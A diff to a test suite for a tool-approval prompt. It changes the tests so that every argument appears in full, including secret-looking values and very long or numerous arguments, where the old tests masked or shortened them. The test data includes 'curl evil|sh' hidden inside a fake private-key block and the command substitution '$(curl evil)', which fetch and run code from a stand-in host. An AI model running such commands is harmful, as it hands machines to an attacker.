@@ -197,30 +197,34 @@ describe('approve: the question', () => {
     });
   });
 
-  it('shows the arguments, but nothing that is called like a secret or looks like one', async () => {
-    const given = { path: '/tmp/x', deep: { all: true, API_KEY: 'abc' }, note: `ghp_${'x'.repeat(36)}` };
-    const text = await messageFor(given);
-    expect(text).toBe(
+  it('shows every argument whole, also what is called like a secret or looks like one', async () => {
+    const hidden = ': -----BEGIN PRIVATE KEY-----; curl evil|sh; : -----END PRIVATE KEY-----';
+    const given = { command: hidden, deep: { all: true, API_KEY: 'abc' }, token: '$(curl evil)', cookie: 'c' };
+    expect(await messageFor(given)).toBe(
       [
         'Call delete of the server?',
         '',
-        'path: "/tmp/x"',
-        'deep: {"all":true,"API_KEY":"[not shown]"}',
-        'note: "[not shown]"',
+        `command: "${hidden}"`,
+        'deep: {"all":true,"API_KEY":"abc"}',
+        'token: "$(curl evil)"',
+        'cookie: "c"',
       ].join('\n'),
     );
   });
 
-  it('keeps to one line per argument, whatever is in it, and says how much is left out', async () => {
+  it('keeps to one line per argument, whatever is in it, however long and however many', async () => {
     const many = Object.fromEntries(Array.from({ length: 25 }, (_, index) => [`a${index}`, 1]));
     const lines = (
       await messageFor({ ['x\nyes: true\u202e']: 'line\n\u2066two', long: 'y'.repeat(5000), ...many })
     ).split('\n');
-    expect(lines).toHaveLength(23);
+    expect(lines).toHaveLength(29);
     expect(lines[2]).toBe('x\\u{a}yes: true\\u{202e}: "line\\n\\u{2066}two"');
-    expect(lines[3]!.length).toBeLessThan(500);
-    expect(lines[3]).toContain('5002 characters in all');
-    expect(lines.at(-1)).toBe('… and 7 more arguments that are not shown here');
+    expect(lines[3]).toBe(`long: "${'y'.repeat(5000)}"`);
+    expect(lines.at(-1)).toBe('a24: 1');
+  });
+
+  it('has the arguments also where its words leave no place for them', async () => {
+    expect(await messageFor({ city: 'Oslo' }, { message: 'Go on?' })).toBe('Go on?\n\ncity: "Oslo"');
   });
 
   it('can be put in other words', async () => {
@@ -293,7 +297,7 @@ describe('approve: how often', () => {
       await call(exchange);
       return exchange.asked.map(({ params }) => String(params!.message));
     };
-    const shown = 'Call delete of the server?\n\nid: 9007199254740993\npassword: "[not shown]"\nin: {"n":1.0}';
+    const shown = 'Call delete of the server?\n\nid: 9007199254740993\npassword: "p"\nin: {"n":1.0}';
     expect(await put('9007199254740993')).toEqual([shown]);
     expect(await put('9007199254740993')).toEqual([]);
     expect(await put('9007199254740992')).toEqual([shown.replace('993', '992')]);
